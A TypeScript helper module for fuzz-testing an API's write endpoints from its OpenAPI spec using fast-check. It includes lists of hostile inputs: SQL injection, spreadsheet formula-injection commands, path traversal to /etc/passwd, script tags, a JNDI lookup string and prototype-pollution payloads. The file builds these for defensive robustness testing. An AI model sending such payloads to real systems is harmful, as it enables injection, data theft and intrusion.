/*
 * What the fuzzing of the write endpoints needs from the OpenAPI spec and from fast-check: the
 * write operations the spec publishes (so that a new one is fuzzed without editing the test),
 * their schemas with references and `allOf` resolved, the fields of a request body a mutation
 * can aim at, and the hostile values it puts there.
 */
import fc from 'fast-check';

/** The part of JSON Schema (OpenAPI 3.1) the spec's request schemas use. */
export interface JsonSchema {
  type?: string | string[];
  enum?: readonly unknown[];
  properties?: Record<string, JsonSchema>;
  required?: readonly string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  allOf?: readonly JsonSchema[];
  $ref?: string;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  pattern?: string;
}

type Spec = {
  paths: Record<string, Record<string, unknown>>;
  components?: Record<string, Record<string, unknown>>;
};

/** The methods that change something. */
export const WRITE_METHODS = ['post', 'put', 'patch', 'delete'] as const;
export type WriteMethod = (typeof WRITE_METHODS)[number];

export interface OperationParameter {
  name: string;
  required: boolean;
  schema: JsonSchema;
}

/** One write operation of the spec, as the fuzzing drives it. */
export interface WriteOperation {
  operationId: string;
  method: WriteMethod;
  /** The path as the spec writes it, e.g. `/services/{id}/transitions`. */
  path: string;
  pathParameters: OperationParameter[];
  queryParameters: OperationParameter[];
  /** The JSON request body, when the operation takes one. */
  body?: { required: boolean; schema: JsonSchema };
}

function follow(spec: Spec, ref: string): unknown {
  if (!ref.startsWith('#/')) throw new Error(`Only local references: ${ref}`);
  return ref
    .slice(2)
    .split('/')
    .reduce<any>((node, key) => node?.[key], spec);
}

/**
 * A schema with every `$ref` followed and every `allOf` merged into one object schema
 * (properties joined, required lists joined), all the way down.
 */
export function resolveSchema(spec: Spec, schema: JsonSchema): JsonSchema {
  if (schema.$ref) {
    return resolveSchema(spec, follow(spec, schema.$ref) as JsonSchema);
  }
  let merged: JsonSchema = { ...schema };
  if (schema.allOf) {
    const { allOf, ...rest } = schema;
    merged = rest;
    for (const part of allOf.map(p => resolveSchema(spec, p))) {
      merged = {
        ...merged,
        ...part,
        type: part.type ?? merged.type,
        properties: { ...merged.properties, ...part.properties },
        required: [...(merged.required ?? []), ...(part.required ?? [])],
      };
    }
  }
  const out: JsonSchema = { ...merged };
  if (merged.properties) {
    out.properties = Object.fromEntries(
      Object.entries(merged.properties).map(([k, v]) => [
        k,
        resolveSchema(spec, v),
      ]),
    );
  }
  if (merged.items) out.items = resolveSchema(spec, merged.items);
  if (
    merged.additionalProperties &&
    typeof merged.additionalProperties === 'object'
  ) {
    out.additionalProperties = resolveSchema(spec, merged.additionalProperties);
  }
  return out;
}

function parametersOf(spec: Spec, list: unknown): Array<Record<string, any>> {
  return ((list as Array<Record<string, any>> | undefined) ?? []).map(p =>
    p.$ref ? (follow(spec, p.$ref) as Record<string, any>) : p,
  );
}

/** Every POST, PUT, PATCH and DELETE operation of the spec, in the spec's order. */
export function writeOperations(spec: Spec): WriteOperation[] {
  const operations: WriteOperation[] = [];
  for (const [path, item] of Object.entries(spec.paths)) {
    const shared = parametersOf(spec, item.parameters);
    for (const method of WRITE_METHODS) {
      const operation = item[method] as Record<string, any> | undefined;
      if (!operation) continue;
      const parameters = [
        ...shared.filter(
          p =>
            !parametersOf(spec, operation.parameters).some(
              o => o.name === p.name && o.in === p.in,
            ),
        ),
        ...parametersOf(spec, operation.parameters),
      ];
      const of = (where: string) =>
        parameters
          .filter(p => p.in === where)
          .map(p => ({
            name: p.name as string,
            required: p.required === true,
            schema: resolveSchema(spec, (p.schema ?? {}) as JsonSchema),
          }));
      const json = operation.requestBody?.content?.['application/json'];
      operations.push({
        operationId: operation.operationId,
        method,
        path,
        pathParameters: of('path'),
        queryParameters: of('query'),
        ...(json
          ? {
              body: {
                required: operation.requestBody.required === true,
                schema: resolveSchema(spec, (json.schema ?? {}) as JsonSchema),
              },
            }
          : {}),
      });
    }
  }
  return operations;
}

/** A field of a request body a mutation can aim at. */
export interface FieldTarget {
  path: Array<string | number>;
  schema: JsonSchema;
  /** The spec requires it in its object. */
  required: boolean;
}

/** A JSON object (not an array). */
export function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/**
 * The fields of `sample` (a valid body) and of its schema: every property the schema names in
 * an object the sample has, the first element of every array it has, and the keys it gives an
 * object whose values the schema types as a whole (`additionalProperties`).
 */
export function fieldTargets(
  schema: JsonSchema,
  sample: unknown,
  path: Array<string | number> = [],
): FieldTarget[] {
  const targets: FieldTarget[] = [];
  if (isObject(sample)) {
    for (const [key, child] of Object.entries(schema.properties ?? {})) {
      targets.push({
        path: [...path, key],
        schema: child,
        required: schema.required?.includes(key) ?? false,
      });
      targets.push(...fieldTargets(child, sample[key], [...path, key]));
    }
    if (isObject(schema.additionalProperties)) {
      for (const key of Object.keys(sample)) {
        if (schema.properties?.[key]) continue;
        targets.push({
          path: [...path, key],
          schema: schema.additionalProperties,
          required: false,
        });
      }
    }
  }
  if (Array.isArray(sample) && sample.length > 0 && schema.items) {
    targets.push({ path: [...path, 0], schema: schema.items, required: true });
    targets.push(...fieldTargets(schema.items, sample[0], [...path, 0]));
  }
  return targets;
}

/** The objects of `sample` a key can be added to, with their schemas. */
export function objectTargets(
  schema: JsonSchema,
  sample: unknown,
  path: Array<string | number> = [],
): Array<{ path: Array<string | number>; schema: JsonSchema }> {
  if (!isObject(sample)) {
    return Array.isArray(sample) && sample.length > 0 && schema.items
      ? objectTargets(schema.items, sample[0], [...path, 0])
      : [];
  }
  return [
    { path, schema },
    ...Object.entries(schema.properties ?? {}).flatMap(([key, child]) =>
      objectTargets(child, sample[key], [...path, key]),
    ),
  ];
}

/** A deep copy of a JSON value with `value` at `path` (intermediate objects made as needed). */
export function withValueAt(
  body: unknown,
  path: Array<string | number>,
  value: unknown,
): unknown {
  if (path.length === 0) return value;
  const [head, ...rest] = path;
  let copy: any = typeof head === 'number' ? [] : {};
  if (Array.isArray(body)) copy = [...body];
  else if (isObject(body)) copy = { ...body };
  Object.defineProperty(copy, head, {
    value: withValueAt(copy[head], rest, value),
    enumerable: true,
    writable: true,
    configurable: true,
  });
  return copy;
}

/** A deep copy of a JSON value without the field at `path`. */
export function withoutValueAt(
  body: unknown,
  path: Array<string | number>,
): unknown {
  if (path.length === 0) return undefined;
  const [head, ...rest] = path;
  if (Array.isArray(body)) {
    const copy = [...body];
    if (rest.length === 0) copy.splice(Number(head), 1);
    else copy[Number(head)] = withoutValueAt(copy[Number(head)], rest);
    return copy;
  }
  if (!isObject(body)) return body;
  const copy: Record<string, unknown> = { ...body };
  if (rest.length === 0) delete copy[head as string];
  else copy[head as string] = withoutValueAt(copy[head as string], rest);
  return copy;
}

/** The JSON types a schema allows; empty when it allows anything. */
export function typesOf(schema: JsonSchema): string[] {
  if (schema.type === undefined) {
    return schema.enum ? [...new Set(schema.enum.map(jsonType))] : [];
  }
  const types = Array.isArray(schema.type) ? schema.type : [schema.type];
  // An integer is a number too, and a number may be an integer.
  return types.includes('number') ? [...types, 'integer'] : types;
}

/** The JSON type of a value, as JSON Schema names it. */
export function jsonType(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'number') {
    return Number.isInteger(value) ? 'integer' : 'number';
  }
  return typeof value;
}

/**
 * Pieces of text that trip up text handling: lone surrogates, right-to-left and zero-width
 * marks, a byte order mark, NUL and other control characters, characters whose case or
 * normalisation changes their length, line and paragraph separators, and an emoji.
 */
export const UNICODE_EDGES = [
  '\ud800',
  '\udfff',
  '\udbff\udfff',
  '\u202e',
  '\u200f',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\r\n',
  '\t',
  'İ',
  'ß',
  'ﬃ',
  'Å',
  'e\u0301\u0301\u0301',
  'ＡＢＣ',
  'ש\u05c1ל',
  '😀',
  '👩‍👩‍👧',
] as const;

/** Text a store or a spreadsheet might run: SQL, formulas, paths, markup. */
export const HOSTILE_TEXT = [
  "' OR '1'='1",
  "'); DROP TABLE social_services; --",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid","x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '%s%n%x',
  '__proto__',
  'constructor',
] as const;

/** Keys that pollute prototypes when code merges objects carelessly. */
export const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype'];

/** The property a prototype-pollution payload tries to give every object. */
export const POLLUTION_MARKER = 'fuzzPollutedByRequest';

/** An object that tries to pollute prototypes through `key`. */
export function pollutionPayload(key: string): Record<string, unknown> {
  const payload: Record<string, unknown> = {};
  const poison =
    key === 'constructor'
      ? { prototype: { [POLLUTION_MARKER]: true } }
      : { [POLLUTION_MARKER]: true };
  Object.defineProperty(payload, key, {
    value: poison,
    enumerable: true,
    writable: true,
    configurable: true,
  });
  return payload;
}

/** An arbitrary made once, on first use: building one costs more than drawing from it. */
function once<T>(make: () => fc.Arbitrary<T>): () => fc.Arbitrary<T> {
  let made: fc.Arbitrary<T> | undefined;
  return () => (made ??= make());
}

/** An arbitrary made once per schema. */
function oncePerSchema<T>(
  make: (schema: JsonSchema) => T,
): (schema: JsonSchema) => T {
  const made = new WeakMap<JsonSchema, T>();
  return schema => {
    if (!made.has(schema)) made.set(schema, make(schema));
    return made.get(schema)!;
  };
}

/** Text made of unicode edges, hostile text and ordinary words. */
export const oddText = once(
  (): fc.Arbitrary<string> =>
    fc.oneof(
      fc
        .array(
          fc.oneof(
            fc.constantFrom(...UNICODE_EDGES),
            fc.constantFrom('a', 'Brand', ' ', '-', '.', '@', '1'),
            fc.string({ unit: 'binary', maxLength: 8 }),
          ),
          { minLength: 1, maxLength: 12 },
        )
        .map(parts => parts.join('')),
      fc.constantFrom(...HOSTILE_TEXT),
      fc.constantFrom('', ' ', '\u00a0', '\u3000'),
    ),
);

/** Text longer than any text field takes (import content aside). */
export const hugeText = once(
  (): fc.Arbitrary<string> =>
    fc
      .tuple(
        fc.integer({ min: 10_000, max: 60_000 }),
        fc.constantFrom('a', 'é', '😀', '\u0000', '=', ' '),
      )
      .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length))),
);

/** Arrays or objects nested `depth` deep, as JSON text. */
export function deepJsonText(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** A value nested `depth` deep. */
export function deepValue(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** A value of a JSON type the schema does not allow (undefined when it allows every type). */
export const wrongTypeValue = oncePerSchema(function makeWrongTypeValue(
  schema: JsonSchema,
): fc.Arbitrary<unknown> | undefined {
  const allowed = typesOf(schema);
  if (allowed.length === 0) return undefined;
  const candidates: Array<[string, fc.Arbitrary<unknown>]> = [
    ['string', fc.oneof(oddText(), fc.constantFrom('1', 'true', 'null'))],
    ['integer', fc.constantFrom(0, 1, -1, 2 ** 53, -(2 ** 31))],
    ['number', fc.constantFrom(1.5, -0.25, 1e308)],
    ['boolean', fc.boolean()],
    ['null', fc.constant(null)],
    ['array', fc.constantFrom([], ['x'], [1, 2], [null])],
    [
      'object',
      fc.oneof(
        fc.constant({}),
        fc.constant({ value: 'x' }),
        fc.constantFrom(...POLLUTION_KEYS).map(pollutionPayload),
      ),
    ],
    ['deep', fc.integer({ min: 50, max: 2000 }).map(deepValue)],
  ];
  const wrong = candidates.filter(([type]) => {
    if (type === 'deep') return !allowed.includes('object');
    if (type === 'integer') return !allowed.includes('integer');
    return !allowed.includes(type);
  });
  return fc.oneof(...wrong.map(([, arb]) => arb));
});

/**
 * A value of the right JSON type that the spec itself refuses (outside an enum, under a
 * minimum, over a maximum length), when the schema says enough to make one.
 */
export const outOfRangeValue = oncePerSchema(function makeOutOfRangeValue(
  schema: JsonSchema,
): fc.Arbitrary<unknown> | undefined {
  if (schema.enum) {
    return fc
      .oneof(
        oddText(),
        fc.constantFrom(
          ...schema.enum
            .filter((v): v is string => typeof v === 'string')
            .flatMap(v => [v.toUpperCase(), ` ${v}`, `${v}\u0000`]),
        ),
      )
      .filter(v => !schema.enum!.includes(v));
  }
  if (typeof schema.minimum === 'number') {
    return fc.constantFrom(schema.minimum - 1, -(2 ** 31), -1e15);
  }
  if (typeof schema.maximum === 'number') {
    return fc.constant(schema.maximum + 1);
  }
  if (typeof schema.maxLength === 'number' && schema.maxLength < 100_000) {
    return fc
      .integer({ min: schema.maxLength + 1, max: schema.maxLength * 4 + 10 })
      .map(n => 'x'.repeat(n));
  }
  return undefined;
});

/** A value of the right JSON type that may well be refused: hostile text, extremes. */
export const oddValue = oncePerSchema(function makeOddValue(
  schema: JsonSchema,
): fc.Arbitrary<unknown> {
  const types = typesOf(schema);
  const arbitraries: fc.Arbitrary<unknown>[] = [];
  if (types.includes('string') || types.length === 0) {
    arbitraries.push(oddText(), hugeText());
  }
  if (types.includes('integer') || types.includes('number')) {
    arbitraries.push(
      fc.constantFrom(0, -1, 2 ** 31, 2 ** 53 + 2, -(2 ** 53), 1e21, -0),
    );
  }
  if (types.includes('number')) {
    arbitraries.push(fc.double({ noNaN: true, noDefaultInfinity: true }));
  }
  if (types.includes('boolean')) arbitraries.push(fc.boolean());
  if (types.includes('array')) {
    arbitraries.push(
      fc.constant([]),
      fc.integer({ min: 201, max: 3000 }).map(n => Array(n).fill('x')),
      fc.array(oddText(), { maxLength: 5 }),
    );
  }
  if (types.includes('object')) {
    arbitraries.push(
      fc.constant({}),
      fc.constantFrom(...POLLUTION_KEYS).map(pollutionPayload),
    );
  }
  return fc.oneof(...arbitraries);
});

/** Odd values for a path parameter, as the text in the URL (already encoded). */
export const oddPathSegment = once(
  (): fc.Arbitrary<string> =>
    fc.oneof(
      fc.constantFrom(
        '..',
        '.',
        '%2e%2e',
        '..%2f..%2fetc',
        '%2F',
        '%00',
        '%',
        '%zz',
        '%C0%AE',
        '%ED%A0%80',
        '0',
        '-1',
        '1e3',
        '9007199254740993',
        '99999999999999999999',
        '%20',
        'NaN',
        'constructor',
        '__proto__',
      ),
      oddText().map(encodeURIComponentLoosely),
      fc
        .integer({ min: 64, max: 8000 })
        .map(n => 'a'.repeat(n))
        .map(encodeURIComponentLoosely),
    ),
);

/** Percent-encodes text for a URL path, lone surrogates included (as their UTF-8 of U+FFFD). */
export function encodeURIComponentLoosely(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '\ufffd'));
  }
}

/** Any JSON value, small, with odd text in it. */
export const anyJson = once(
  (): fc.Arbitrary<unknown> =>
    fc.oneof(
      fc.jsonValue({ maxDepth: 4 }),
      fc.dictionary(
        fc.oneof(fc.constantFrom(...POLLUTION_KEYS), oddText()),
        fc.jsonValue({ maxDepth: 2 }),
        { maxKeys: 6 },
      ),
    ),
);

/** Request bodies that are not JSON at all, or not the JSON they claim to be. */
export const MALFORMED_JSON = [
  '{',
  '{"a":}',
  '[1,]',
  '{"a":1,}',
  "{'a':1}",
  'undefined',
  'NaN',
  '{"a":"\\ud800"',
  '\u0000',
  '{"a":1}{"b":2}',
  '"just a string"',
  '42',
  'null',
  'true',
  '',
  '\ufeff{}',
];
